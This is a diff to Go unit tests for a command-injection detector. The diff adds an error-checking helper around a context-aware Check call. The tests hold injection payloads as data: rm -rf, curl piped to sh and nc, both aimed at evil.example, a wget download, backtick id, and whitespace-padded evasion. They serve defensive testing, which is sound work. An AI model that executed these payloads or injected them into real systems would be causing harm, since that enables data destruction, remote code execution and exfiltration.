@@ -1,12 +1,24 @@
 package oscmd
 
 import (
+	"context"
 	"strings"
 	"testing"
 	"testing/quick"
 
+	"joza/internal/core"
 	"joza/internal/nti"
 )
+
+// check runs g.Check under context.Background(), on which it cannot fail.
+func check(t *testing.T, g *Guard, cmd string, inputs []nti.Input) core.Verdict {
+	t.Helper()
+	v, err := g.Check(context.Background(), cmd, inputs)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return v
+}
 
 func kinds(toks []Token) []TokenKind {
 	out := make([]TokenKind, len(toks))
@@ -125,7 +137,7 @@ func inputsOf(value string) []nti.Input {
 
 func TestBenignCommandSafe(t *testing.T) {
 	g := appGuard()
-	v := g.Check("nslookup -timeout=2 example.com", inputsOf("example.com"))
+	v := check(t, g, "nslookup -timeout=2 example.com", inputsOf("example.com"))
 	if v.Attack {
 		t.Errorf("benign command flagged: %v", v.Reasons())
 	}
@@ -134,7 +146,7 @@ func TestBenignCommandSafe(t *testing.T) {
 func TestSeparatorInjectionDetected(t *testing.T) {
 	g := appGuard()
 	payload := "example.com; rm -rf /tmp"
-	v := g.Check("nslookup -timeout=2 "+payload, inputsOf(payload))
+	v := check(t, g, "nslookup -timeout=2 "+payload, inputsOf(payload))
 	if !v.Attack {
 		t.Fatal("separator injection missed")
 	}
@@ -146,7 +158,7 @@ func TestSeparatorInjectionDetected(t *testing.T) {
 func TestSubstitutionInjectionDetected(t *testing.T) {
 	g := appGuard()
 	payload := "$(curl http://evil.example/x.sh | sh)"
-	v := g.Check("nslookup -timeout=2 "+payload, inputsOf(payload))
+	v := check(t, g, "nslookup -timeout=2 "+payload, inputsOf(payload))
 	if !v.Attack {
 		t.Fatal("substitution injection missed")
 	}
@@ -155,7 +167,7 @@ func TestSubstitutionInjectionDetected(t *testing.T) {
 func TestBacktickInjectionDetected(t *testing.T) {
 	g := appGuard()
 	payload := "`id`"
-	v := g.Check("nslookup -timeout=2 "+payload, inputsOf(payload))
+	v := check(t, g, "nslookup -timeout=2 "+payload, inputsOf(payload))
 	if !v.PTI.Attack {
 		t.Fatal("backtick substitution must fail PTI")
 	}
@@ -164,7 +176,7 @@ func TestBacktickInjectionDetected(t *testing.T) {
 func TestPipeInjectionDetected(t *testing.T) {
 	g := appGuard()
 	payload := "example.com | nc evil.example 4444"
-	v := g.Check("nslookup -timeout=2 "+payload, inputsOf(payload))
+	v := check(t, g, "nslookup -timeout=2 "+payload, inputsOf(payload))
 	if !v.Attack {
 		t.Fatal("pipe injection missed")
 	}
@@ -173,7 +185,7 @@ func TestPipeInjectionDetected(t *testing.T) {
 func TestSecondOrderCommandCaughtByPTI(t *testing.T) {
 	// Payload arrived from storage, inputs unrelated: NTI blind, PTI not.
 	g := appGuard()
-	v := g.Check("nslookup -timeout=2 example.com; wget evil.example", inputsOf("unrelated"))
+	v := check(t, g, "nslookup -timeout=2 example.com; wget evil.example", inputsOf("unrelated"))
 	if v.NTI.Attack {
 		t.Error("NTI should miss (inputs unrelated)")
 	}
@@ -188,7 +200,7 @@ func TestVocabularyCommandAttackCaughtByNTI(t *testing.T) {
 	// them — NTI catches it because the input appears verbatim.
 	g := New([]string{"nslookup ", "; ", "sync"})
 	payload := "example.com; sync"
-	v := g.Check("nslookup "+payload, inputsOf(payload))
+	v := check(t, g, "nslookup "+payload, inputsOf(payload))
 	if v.PTI.Attack {
 		t.Errorf("PTI should miss the vocabulary attack: %v", v.PTI.Reasons)
 	}
@@ -220,7 +232,7 @@ func TestArgumentInjectionNotFlagged(t *testing.T) {
 	// A benign filename that merely looks odd must not trip either
 	// analyzer: no critical token derives from it.
 	g := appGuard()
-	v := g.Check("nslookup -timeout=2 my-host.example.com", inputsOf("my-host.example.com"))
+	v := check(t, g, "nslookup -timeout=2 my-host.example.com", inputsOf("my-host.example.com"))
 	if v.Attack {
 		t.Errorf("benign hostname flagged: %v", v.Reasons())
 	}
@@ -232,7 +244,7 @@ func TestWhitespaceStuffingEvadesNTIButNotPTI(t *testing.T) {
 	g := appGuard()
 	payload := "example.com; reboot" + strings.Repeat(" ", 30)
 	trimmed := strings.TrimSpace(payload)
-	v := g.Check("nslookup -timeout=2 "+trimmed, inputsOf(payload))
+	v := check(t, g, "nslookup -timeout=2 "+trimmed, inputsOf(payload))
 	if v.NTI.Attack {
 		t.Error("padded input should evade NTI")
 	}
